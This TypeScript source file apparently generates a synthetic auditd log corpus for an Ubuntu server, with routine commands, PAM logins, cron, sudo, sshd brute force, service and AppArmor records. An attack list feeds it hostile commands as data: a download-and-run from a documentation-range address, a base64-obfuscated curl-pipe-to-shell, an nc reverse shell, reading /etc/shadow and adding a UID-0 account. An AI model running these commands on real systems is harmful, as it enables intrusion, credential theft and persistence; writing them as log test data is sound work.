// The audit.log corpus: /var/log/audit/audit.log of an Ubuntu server with auditd's ENRICHED format (names after a
// 0x1d) and the execve rule of the usual hardening guides (`-a always,exit -F arch=b64 -S execve -k exec`), so every
// command writes SYSCALL, EXECVE, CWD, two PATH and PROCTITLE records under one event id. Logins, sudo and cron write
// PAM's records (USER_AUTH, USER_ACCT, CRED_ACQ, LOGIN, USER_START, USER_END, CRED_DISP); sshd brute force writes
// failed USER_AUTH and USER_LOGIN from many addresses; systemd starts and stops units; AppArmor denies now and then;
// and a few attacks: downloads run from /tmp, a reverse shell, an account added.
import { AddressPool } from '../addresses.js';
import { Clock } from '../clock.js';
import type { LineSink } from '../line-sink.js';
import { Prng, Weighted } from '../prng.js';
import { GUESSED_USERS, gap, type CorpusGenerator } from './generator.js';

export interface AuditLogOptions {
  seed: number;
}

type Kind = 'exec' | 'cron' | 'sshFail' | 'sshLogin' | 'sudo' | 'service' | 'avc' | 'attack';

/** Sessions per kind: about 70% of the lines are commands' execve records, ~10% failed logins. */
const MIX = new Weighted<Kind>([
  ['exec', 40], ['cron', 8], ['sshFail', 20], ['sshLogin', 1], ['sudo', 3], ['service', 3], ['avc', 1], ['attack', 0.2],
]);

const GS = '\u001d';
const UNSET = 4294967295;
interface User { name: string; uid: number }
const USERS: readonly User[] = [{ name: 'ubuntu', uid: 1000 }, { name: 'alice', uid: 1001 }, { name: 'bob', uid: 1002 }, { name: 'deploy', uid: 1003 }];
const ROOT: User = { name: 'root', uid: 0 };
/** Commands people and scripts run: argv. */
const COMMANDS: readonly (readonly string[])[] = [
  ['ls', '-la'], ['cat', '/etc/os-release'], ['grep', '-r', 'error', '/var/log/nginx'], ['ps', 'aux'], ['git', 'pull'],
  ['systemctl', 'status', 'nginx'], ['df', '-h'], ['tail', '-n', '100', '/var/log/syslog'], ['vim', 'notes.txt'],
  ['python3', '-m', 'pip', 'list'], ['node', '/srv/api/dist/server.js'], ['docker', 'ps'], ['sh', '-c', 'run-parts --report /etc/cron.hourly'],
  ['find', '/tmp', '-mtime', '+7', '-delete'], ['curl', '-s', 'http://127.0.0.1:8080/health'], ['id'], ['uname', '-a'],
];
const ATTACK_COMMANDS: readonly (readonly string[])[] = [
  ['wget', '-q', 'http://198.51.100.77/x.sh', '-O', '/tmp/.x'], ['chmod', '+x', '/tmp/.x'], ['/tmp/.x'],
  ['sh', '-c', 'echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43Ny9w | base64 -d | sh'], ['nc', '-e', '/bin/sh', '198.51.100.77', '4444'],
  ['cat', '/etc/shadow'], ['useradd', '-o', '-u', '0', 'sysadm'],
];
const UNITS = ['apt-daily.service', 'logrotate.service', 'man-db.service', 'certbot.service', 'sysstat-collect.service', 'fstrim.service'];
const PROFILES = ['/usr/sbin/cupsd', 'snap.lxd.lxc', '/usr/bin/man', 'rsyslogd', '/usr/lib/snapd/snap-confine'];
const BIN: Readonly<Record<string, string>> = { sh: '/usr/bin/dash', python3: '/usr/bin/python3.12', node: '/usr/bin/node', vim: '/usr/bin/vim.basic', nc: '/usr/bin/nc.openbsd' };

export function auditLog(opts: AuditLogOptions): CorpusGenerator {
  return new AuditLog(opts);
}

/** auditd writes a value in hex when it holds a space, a quote, a control character or anything past '~'. */
function encoded(value: string): string {
  return /^[!#-~]+$/.test(value) && !value.includes('"') ? `"${value}"` : Buffer.from(value, 'utf8').toString('hex').toUpperCase();
}

class AuditLog implements CorpusGenerator {
  private readonly rng: Prng;
  private readonly clock = new Clock(new Date('2025-03-02T00:00:00Z'));
  private readonly attackers = new AddressPool(20_000, 5_000_000, 3);
  private serial = 1000;
  private pid = 3000;
  private ses = 1;

  constructor(opts: AuditLogOptions) {
    this.rng = new Prng(opts.seed);
  }

  step(sink: LineSink): boolean {
    this.clock.advance(gap(this.rng.float(), 700));
    switch (MIX.pick(this.rng)) {
      case 'exec': return this.exec(sink, this.rng.pick(USERS), this.rng.pick(COMMANDS));
      case 'cron': return this.cron(sink);
      case 'sshFail': return this.sshFail(sink);
      case 'sshLogin': return this.sshLogin(sink);
      case 'sudo': return this.sudo(sink);
      case 'service': return this.service(sink);
      case 'avc': return this.avc(sink);
      case 'attack': return this.attack(sink);
    }
  }

  /** `type=T msg=audit(secs.ms:serial): body` and, ENRICHED, the names. */
  private record(sink: LineSink, type: string, serial: number, body: string, names = ''): void {
    const ms = this.clock.ms;
    sink.line(`type=${type} msg=audit(${Math.floor(ms / 1000)}.${String(ms % 1000).padStart(3, '0')}:${serial}): ${body}${names === '' ? '' : GS + names}`);
  }

  /** A PAM record of a user-space program: `pid= uid= auid= ses= subj= msg='op=... res='` and its names. */
  private pam(sink: LineSink, type: string, pid: number, auid: number, ses: number, op: string, acct: string, exe: string, addr: string, terminal: string, ok: boolean): void {
    const host = addr === '?' ? '?' : addr;
    const names = `UID="root" AUID="${auid === UNSET ? 'unset' : this.nameOf(auid)}"`;
    this.record(sink, type, this.serial++, `pid=${pid} uid=0 auid=${auid} ses=${ses} subj=unconfined msg='op=${op} acct=${encoded(acct)} exe="${exe}" hostname=${host} addr=${addr} terminal=${terminal} res=${ok ? 'success' : 'failed'}'`, names);
  }

  private nameOf(uid: number): string {
    return uid === 0 ? 'root' : USERS.find((u) => u.uid === uid)?.name ?? String(uid);
  }

  /** One command under the execve rule: six records with one event id. */
  private exec(sink: LineSink, user: User, argv: readonly string[]): boolean {
    const serial = this.serial++;
    const pid = ++this.pid;
    const comm = argv[0]!.split('/').pop()!.slice(0, 15);
    const exe = argv[0]!.startsWith('/') ? argv[0]! : BIN[argv[0]!] ?? `/usr/bin/${argv[0]}`;
    const ids = `uid=${user.uid} gid=${user.uid} euid=${user.uid} suid=${user.uid} fsuid=${user.uid} egid=${user.uid} sgid=${user.uid} fsgid=${user.uid}`;
    const names = `AUID="${user.name}" UID="${user.name}" GID="${user.name}" EUID="${user.name}" SUID="${user.name}" FSUID="${user.name}" EGID="${user.name}" SGID="${user.name}" FSGID="${user.name}"`;
    const a = (): string => `55d${this.rng.hex(9)}`;
    this.record(sink, 'SYSCALL', serial, `arch=c000003e syscall=59 success=yes exit=0 a0=${a()} a1=${a()} a2=${a()} a3=8 items=2 ppid=${pid - 1} pid=${pid} auid=${user.uid} ${ids} tty=pts${this.rng.int(3)} ses=${this.ses} comm=${encoded(comm)} exe="${exe}" subj=unconfined key="exec"`, `ARCH=x86_64 SYSCALL=execve ${names}`);
    this.record(sink, 'EXECVE', serial, `argc=${argv.length} ${argv.map((v, i) => `a${i}=${encoded(v)}`).join(' ')}`);
    this.record(sink, 'CWD', serial, `cwd=${encoded(user.uid === 0 ? '/root' : `/home/${user.name}`)}`);
    this.record(sink, 'PATH', serial, `item=0 name="${exe}" inode=${1_800_000 + this.rng.int(90_000)} dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`, 'OUID="root" OGID="root"');
    this.record(sink, 'PATH', serial, `item=1 name="/lib64/ld-linux-x86-64.so.2" inode=1835107 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`, 'OUID="root" OGID="root"');
    this.record(sink, 'PROCTITLE', serial, `proctitle=${argv.length === 1 ? encoded(argv[0]!) : Buffer.from(argv.join('\0')).toString('hex').toUpperCase()}`);
    return true;
  }

  /** A cron job's PAM session as root, and the command it runs. */
  private cron(sink: LineSink): boolean {
    const pid = ++this.pid;
    const ses = ++this.ses;
    const exe = '/usr/sbin/cron';
    this.pam(sink, 'USER_ACCT', pid, UNSET, UNSET, 'PAM:accounting grantors=pam_permit', 'root', exe, '?', 'cron', true);
    this.pam(sink, 'CRED_ACQ', pid, UNSET, UNSET, 'PAM:setcred grantors=pam_permit,pam_cap', 'root', exe, '?', 'cron', true);
    this.record(sink, 'LOGIN', this.serial++, `pid=${pid} uid=0 subj=unconfined old-auid=${UNSET} auid=0 tty=(none) old-ses=${UNSET} ses=${ses} res=1`, 'UID="root" OLD-AUID="unset" AUID="root"');
    this.pam(sink, 'USER_START', pid, 0, ses, 'PAM:session_open grantors=pam_loginuid,pam_env,pam_permit,pam_unix,pam_limits', 'root', exe, '?', 'cron', true);
    this.exec(sink, ROOT, ['sh', '-c', 'run-parts --report /etc/cron.hourly']);
    this.clock.advance(this.rng.range(50, 3000));
    this.pam(sink, 'CRED_DISP', pid, 0, ses, 'PAM:setcred grantors=pam_permit,pam_cap', 'root', exe, '?', 'cron', true);
    this.pam(sink, 'USER_END', pid, 0, ses, 'PAM:session_close grantors=pam_loginuid,pam_env,pam_permit,pam_unix,pam_limits', 'root', exe, '?', 'cron', true);
    return true;
  }

  /** A brute-force attempt: a failed password for a guessed account (root most often), from an attacker. */
  private sshFail(sink: LineSink): boolean {
    const ip = this.attackers.pick(this.rng);
    const user = this.rng.chance(0.4) ? 'root' : this.rng.pick(GUESSED_USERS);
    const pid = ++this.pid;
    for (let k = this.rng.range(1, 3); k > 0; k--) {
      this.pam(sink, 'USER_AUTH', pid, UNSET, UNSET, 'PAM:authentication grantors=?', user, '/usr/sbin/sshd', ip, 'ssh', false);
      this.clock.advance(this.rng.range(1500, 4000));
    }
    this.record(sink, 'USER_LOGIN', this.serial++, `pid=${pid} uid=0 auid=${UNSET} ses=${UNSET} subj=unconfined msg='op=login acct=${encoded(user)} exe="/usr/sbin/sshd" hostname=? addr=${ip} terminal=sshd res=failed'`, 'UID="root" AUID="unset"');
    return true;
  }

  /** A user's key login: PAM's records, the login, a command or two. */
  private sshLogin(sink: LineSink): boolean {
    const user = this.rng.pick(USERS);
    const ip = this.rng.pick(['10.20.0.15', '192.168.10.23', '2001:db8:4:1::25']);
    const pid = ++this.pid;
    const ses = ++this.ses;
    const exe = '/usr/sbin/sshd';
    this.pam(sink, 'USER_ACCT', pid, UNSET, UNSET, 'PAM:accounting grantors=pam_permit', user.name, exe, ip, 'ssh', true);
    this.pam(sink, 'CRED_ACQ', pid, UNSET, UNSET, 'PAM:setcred grantors=pam_permit,pam_cap', user.name, exe, ip, 'ssh', true);
    this.record(sink, 'LOGIN', this.serial++, `pid=${pid} uid=0 subj=unconfined old-auid=${UNSET} auid=${user.uid} tty=(none) old-ses=${UNSET} ses=${ses} res=1`, `UID="root" OLD-AUID="unset" AUID="${user.name}"`);
    this.pam(sink, 'USER_START', pid, user.uid, ses, 'PAM:session_open grantors=pam_selinux,pam_loginuid,pam_keyinit,pam_permit,pam_umask,pam_unix,pam_systemd,pam_mail,pam_limits,pam_env,pam_env,pam_selinux', user.name, exe, ip, 'ssh', true);
    this.record(sink, 'USER_LOGIN', this.serial++, `pid=${pid} uid=0 auid=${user.uid} ses=${ses} subj=unconfined msg='op=login id=${user.uid} exe="${exe}" hostname=? addr=${ip} terminal=/dev/pts/${this.rng.int(3)} res=success'`, `UID="root" AUID="${user.name}" ID="${user.name}"`);
    for (let k = this.rng.range(1, 2); k > 0; k--) this.exec(sink, user, this.rng.pick(COMMANDS));
    return true;
  }

  /** sudo: the command's USER_CMD (hex when it holds a space) and PAM's session, then the command as root. */
  private sudo(sink: LineSink): boolean {
    const user = this.rng.pick(USERS);
    const argv = this.rng.pick([['systemctl', 'restart', 'nginx'], ['apt', 'update'], ['tail', '-n', '50', '/var/log/auth.log'], ['bash']]);
    const pid = ++this.pid;
    const exe = '/usr/bin/sudo';
    const tty = `/dev/pts/${this.rng.int(3)}`;
    this.pam(sink, 'USER_ACCT', pid, user.uid, this.ses, 'PAM:accounting grantors=pam_permit', user.name, exe, '?', tty, true);
    this.record(sink, 'USER_CMD', this.serial++, `pid=${pid} uid=${user.uid} auid=${user.uid} ses=${this.ses} subj=unconfined msg='cwd=${encoded(`/home/${user.name}`)} cmd=${encoded(argv.join(' '))} exe="${exe}" terminal=${tty.slice(5)} res=success'`, `UID="${user.name}" AUID="${user.name}"`);
    this.pam(sink, 'CRED_REFR', pid, user.uid, this.ses, 'PAM:setcred grantors=pam_permit', 'root', exe, '?', tty, true);
    this.pam(sink, 'USER_START', pid, user.uid, this.ses, 'PAM:session_open grantors=pam_limits,pam_permit,pam_umask,pam_unix', 'root', exe, '?', tty, true);
    this.exec(sink, { name: user.name, uid: 0 }, argv);
    this.pam(sink, 'USER_END', pid, user.uid, this.ses, 'PAM:session_close grantors=pam_limits,pam_permit,pam_umask,pam_unix', 'root', exe, '?', tty, true);
    this.pam(sink, 'CRED_DISP', pid, user.uid, this.ses, 'PAM:setcred grantors=pam_permit', 'root', exe, '?', tty, true);
    return true;
  }

  private service(sink: LineSink): boolean {
    const unit = this.rng.pick(UNITS);
    for (const type of ['SERVICE_START', 'SERVICE_STOP']) {
      this.record(sink, type, this.serial++, `pid=1 uid=0 auid=${UNSET} ses=${UNSET} subj=unconfined msg='unit=${unit} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'`, 'UID="root" AUID="unset"');
      this.clock.advance(this.rng.range(200, 20_000));
    }
    return true;
  }

  private avc(sink: LineSink): boolean {
    const profile = this.rng.pick(PROFILES);
    this.record(sink, 'AVC', this.serial++, `apparmor="DENIED" operation="open" class="file" profile="${profile}" name="/etc/ssl/openssl.cnf" pid=${++this.pid} comm="${profile.split('/').pop()!.slice(0, 15)}" requested_mask="r" denied_mask="r" fsuid=0 ouid=0`, 'FSUID="root" OUID="root"');
    return true;
  }

  /** An intrusion's commands as www-data, and now and then an account added. */
  private attack(sink: LineSink): boolean {
    const www: User = { name: 'www-data', uid: 33 };
    for (const argv of ATTACK_COMMANDS.slice(0, this.rng.range(2, ATTACK_COMMANDS.length))) {
      this.exec(sink, argv[0] === 'useradd' ? ROOT : www, argv);
      this.clock.advance(this.rng.range(100, 5000));
    }
    if (this.rng.chance(0.3)) {
      this.record(sink, 'ADD_USER', this.serial++, `pid=${this.pid} uid=0 auid=33 ses=${UNSET} subj=unconfined msg='op=add-user id=0 exe="/usr/sbin/useradd" hostname=web-01 addr=? terminal=? res=success'`, 'UID="root" AUID="www-data" ID="root"');
    }
    return true;
  }
}
